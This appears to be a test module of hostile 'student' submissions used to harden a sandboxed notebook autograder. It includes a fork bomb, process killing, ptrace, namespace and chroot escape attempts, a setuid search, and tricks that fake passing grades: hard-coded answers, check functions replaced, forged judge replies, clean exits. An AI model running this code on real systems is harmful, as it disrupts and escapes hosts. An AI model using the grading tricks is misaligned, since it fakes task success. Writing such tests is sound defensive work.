"""F - process games: ends, kills, forks, threads, and what else a process may do to others."""
# ruff: noqa: E501 - the long lines are students' code

from .base import attack

ATTACKS = [
    attack(
        "exit-in-the-cell",
        "Ends the process while the answer cell runs, so that nothing after it can fail.",
        "smooth",
        "import os\nos._exit(0)",
    ),
    attack(
        "exit-in-the-call",
        "Ends the process with status 0 in the middle of the first hidden call.",
        "search",
        """
        import os

        def search(f, low, high, steps):
            if steps == 3:
                return 0.3125
            os._exit(0)
        """,
    ),
    attack(
        "kill-parent",
        "Kills the process that started it, and that process's parent.",
        "deal",
        """
        import os, signal
        def parent_of(process):
            with open(f"/proc/{process}/stat") as file:
                return int(file.read().rsplit(")", 1)[1].split()[1])

        process = os.getpid()
        for _ in range(4):
            try:
                process = parent_of(process)
                os.kill(process, signal.SIGKILL)
            except OSError as error:
                print(error)
        """,
    ),
    attack(
        "kill-all",
        "Kills every process that it may kill, then those in its group, then those whose number it can guess.",
        "smooth",
        """
        import os, signal
        for attempt in (lambda: os.kill(-1, signal.SIGKILL), lambda: os.killpg(0, signal.SIGSTOP)):
            try:
                attempt()
            except OSError as error:
                print(error)
        for process in range(2, 40_000):
            try:
                if process != os.getpid():
                    os.kill(process, signal.SIGKILL)
            except OSError:
                pass
        """,
    ),
    attack(
        "fork-bomb",
        "Forks without end, in every child again.",
        "register",
        """
        import os
        while True:
            try:
                os.fork()
            except OSError:
                pass
        """,
        harmful="a fork bomb: nothing in stock nbgrader ends it",
        cpu_seconds=0.2,
    ),
    attack(
        "thread-that-stays",
        "A thread outlives its cell and replaces the check functions when the tests begin.",
        "smooth",
        """
        import threading, time

        def later():
            for _ in range(2000):
                time.sleep(0.002)
                for owner in (check.hidden, check):
                    owner.close = owner.equal = owner.unchanged = lambda *args, **kwargs: None
                globals().update(smooth=lambda x, width: x, roughness=lambda x: 8.0)

        threading.Thread(target=later, daemon=True).start()
        """,
    ),
    attack(
        "daemon-answers-for-the-dead",
        "A double-forked daemon keeps the socket and writes one accepting answer after the other.",
        "deal",
        """
        import os
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                for _ in range(300):
                    _post("value", 4)
                    _post("value", None)
                    time.sleep(0.01)
            os._exit(0)
        """,
        wire=True,
    ),
    attack(
        "thread-forges-replies",
        "A thread writes frames to the judge while the main thread serves it, so that replies are out of step.",
        "search",
        """
        import threading

        def forge():
            for _ in range(500):
                _frame(codec.encode(("value", [], codec.encode(0.3125), [])))
                time.sleep(0.002)

        threading.Thread(target=forge, daemon=True).start()

        def search(f, low, high, steps):
            return 0.3125
        """,
        wire=True,
    ),
    attack(
        "closes-descriptors",
        "Closes every descriptor from 0 on, also the one to the judge, and opens others in their place.",
        "register",
        """
        import os
        os.closerange(0, 256)
        for _ in range(20):
            os.open("/dev/null", os.O_RDWR)
        """,
    ),
    attack(
        "stops-itself",
        "Stops its own process, so that it neither ends nor uses time.",
        "search",
        "import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)\nos.killpg(0, signal.SIGSTOP)",
        cpu_seconds=0.2,
    ),
    attack(
        "stops-itself-in-a-call",
        "Answers the visible check, then sleeps in the hidden test with all signals blocked: no CPU time, no answer.",
        "search",
        """
        import signal, time

        def search(f, low, high, steps):
            if steps == 3:
                return 0.3125
            signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))
            while True:
                time.sleep(1000)
        """,
        cpu_seconds=0.2,
    ),
    attack(
        "ptrace",
        "Attaches to its parent with ptrace and with PTRACE_SEIZE, to read or stop it.",
        "smooth",
        """
        import ctypes, os
        libc = ctypes.CDLL(None, use_errno=True)
        for process in (os.getppid(), 1):
            for request in (16, 0x4206):
                print(process, request, libc.ptrace(request, process, 0, 0), os.strerror(ctypes.get_errno()))
        """,
    ),
    attack(
        "signals-taken-over",
        "Takes over every signal handler, blocks all signals, disarms the timers and then loops.",
        "smooth",
        """
        import signal
        for number in range(1, 65):
            try:
                signal.signal(number, signal.SIG_IGN)
            except (OSError, ValueError):
                pass
        signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))
        for timer in (signal.ITIMER_REAL, signal.ITIMER_VIRTUAL, signal.ITIMER_PROF):
            signal.setitimer(timer, 0)
        while True:
            pass
        """,
        cpu_seconds=0.2,
    ),
    attack(
        "limits-changed",
        "Raises its own limits as far as it can, then lowers those that the harness will need: files, memory, processes.",
        "deal",
        """
        import resource
        for name in [name for name in dir(resource) if name.startswith("RLIMIT_")]:
            try:
                resource.setrlimit(getattr(resource, name), (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
                print("raised", name)
            except (OSError, ValueError):
                pass
        for name, value in (("NOFILE", 0), ("NPROC", 0), ("FSIZE", 0), ("STACK", 4096), ("AS", 1 << 20)):
            try:
                resource.setrlimit(getattr(resource, "RLIMIT_" + name), (value, value))
            except (OSError, ValueError):
                pass
        """,
    ),
    attack(
        "segmentation-fault",
        "Crashes the interpreter in C, once the visible check has passed.",
        "deal",
        """
        import ctypes

        def deal(rng, cards, hand):
            if len(cards) == 3:
                hand.extend(cards)
                return 4
            ctypes.string_at(0)
        """,
    ),
    attack(
        "stack-overflow",
        "Recurses in C without limit until the stack is gone.",
        "register",
        """
        import sys
        sys.setrecursionlimit(10**8)

        class Register:
            def __getattr__(self, name):
                return getattr(self, name + "x"[:0]) if name else None
            def __repr__(self):
                return repr([self])

        def sink(n):
            return [sink(n + 1)]

        sink(0)
        """,
        long=True,
        cpu_seconds=0.2,
    ),
    attack(
        "exits-at-the-end",
        "Ends with status 0 from atexit, from excepthook and from a non-daemon thread that never joins.",
        "smooth",
        """
        import atexit, os, sys, threading, time
        atexit.register(os._exit, 0)
        sys.excepthook = lambda *args: os._exit(0)
        threading.excepthook = lambda *args: os._exit(0)
        threading.Thread(target=lambda: time.sleep(3600)).start()
        sys.exit(0)
        """,
    ),
    attack(
        "another-program",
        "Replaces the process by another program that holds the same descriptors and says yes to everything.",
        "deal",
        """
        import os, sys
        for number in range(3, 64):
            try:
                os.set_inheritable(number, True)
            except OSError:
                pass
        program = "import os,time\\nfor n in range(3, 64):\\n  try: os.write(n, b'\\\\0\\\\0\\\\0\\\\1Y' * 50)\\n  except OSError: pass\\ntime.sleep(2)"
        os.execv(sys.executable, [sys.executable, "-S", "-E", "-c", program])
        """,
    ),
    attack(
        "namespaces",
        "Makes namespaces of its own, mounts, changes its root and joins those of process 1, to get out.",
        "search",
        """
        import ctypes, os
        libc = ctypes.CDLL(None, use_errno=True)
        def said(result):
            return result, os.strerror(ctypes.get_errno())

        print("userns", said(libc.unshare(0x10000000)))
        print("mountns", said(libc.unshare(0x00020000)))
        print("mount proc", said(libc.mount(b"proc", b"/proc", b"proc", 0, None)))
        print("remount", said(libc.mount(None, b"/", None, 32 | 4096, None)))
        for place in ("/oldroot", "/.old", "/mnt", "/proc/1/root"):
            try:
                print(place, os.listdir(place))
            except OSError as error:
                print(error)
        try:
            os.mkdir("jail")
            os.chroot("jail")
            for _ in range(50):
                os.chdir("..")
            os.chroot(".")
            print(os.listdir("/"))
        except OSError as error:
            print(error)
        for kind in ("mnt", "pid", "net", "user"):
            try:
                print(kind, said(libc.setns(os.open(f"/proc/1/ns/{kind}", os.O_RDONLY), 0)))
            except OSError as error:
                print(error)
        """,
    ),
    attack(
        "outlives-its-grading",
        "Leaves processes behind in sessions of their own, which go on computing when everything is over.",
        "register",
        """
        import os, signal, time
        for _ in range(3):
            if os.fork() == 0:
                os.setsid()
                if os.fork():
                    os._exit(0)
                signal.signal(signal.SIGTERM, signal.SIG_IGN)
                signal.signal(signal.SIGHUP, signal.SIG_IGN)
                os.closerange(0, 100)
                end = time.monotonic() + 45
                while time.monotonic() < end:
                    sum(range(10**6))
                os._exit(0)
        """,
    ),
    attack(
        "setuid-helper",
        "Looks for programs that run as somebody else, for device nodes and for capabilities that are left.",
        "deal",
        """
        import os, stat, subprocess
        print([line for line in open("/proc/self/status") if line.startswith(("Cap", "NoNew", "Seccomp", "Uid"))])
        for folder in ("/bin", "/usr/bin", "/usr/sbin", "/sbin"):
            for name in os.listdir(folder) if os.path.isdir(folder) else []:
                try:
                    if os.stat(f"{folder}/{name}").st_mode & (stat.S_ISUID | stat.S_ISGID):
                        print(folder, name)
                except OSError:
                    pass
        for attempt in (lambda: os.setuid(0), lambda: os.mknod("disk", 0o600 | stat.S_IFBLK, os.makedev(8, 0)),
                        lambda: print(open("/dev/mem", "rb").read(10)), lambda: print(os.listdir("/dev")),
                        lambda: print(subprocess.run(["su", "-c", "id"], capture_output=True, timeout=2))):
            try:
                attempt()
            except Exception as error:
                print(type(error).__name__)
        """,
    ),
]
